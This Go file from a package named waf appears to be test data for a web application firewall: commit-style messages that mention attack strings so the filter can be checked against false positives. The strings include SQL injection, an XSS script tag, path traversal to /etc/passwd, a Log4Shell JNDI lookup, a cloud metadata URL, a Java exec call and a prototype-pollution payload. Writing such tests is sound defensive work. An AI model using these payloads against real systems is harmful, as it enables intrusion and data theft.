package waf

// words are what people write: subjects of commits, reasons of deploys. None of them
// is an attack, and each looks like one.
func words() map[string]string {
	return map[string]string{
		"plain":      "Round half to even, as the bank does",
		"SQL":        "fix: ' OR 1=1 -- was let through",
		"drop table": "chore: '; DROP TABLE carts; -- after the move",
		"a script":   "fix: escape <script>alert(1)</script> in the footer",
		"a path":     "fix: refuse ../../etc/passwd in uploads",
		"Log4Shell":  "test: ${jndi:ldap://198.51.100.7/a} never reaches the log",
		"metadata":   "fix: block http://169.254.169.254/latest/meta-data/",
		"an address": "docs: http://10.0.0.7/grafana has moved",
		"Java":       `test: (java.lang.Runtime).getRuntime().exec("whoami") is refused`,
		"React":      `fix: CVE-2025-55182, {"then":"$1:__proto__:then"}`,
	}
}
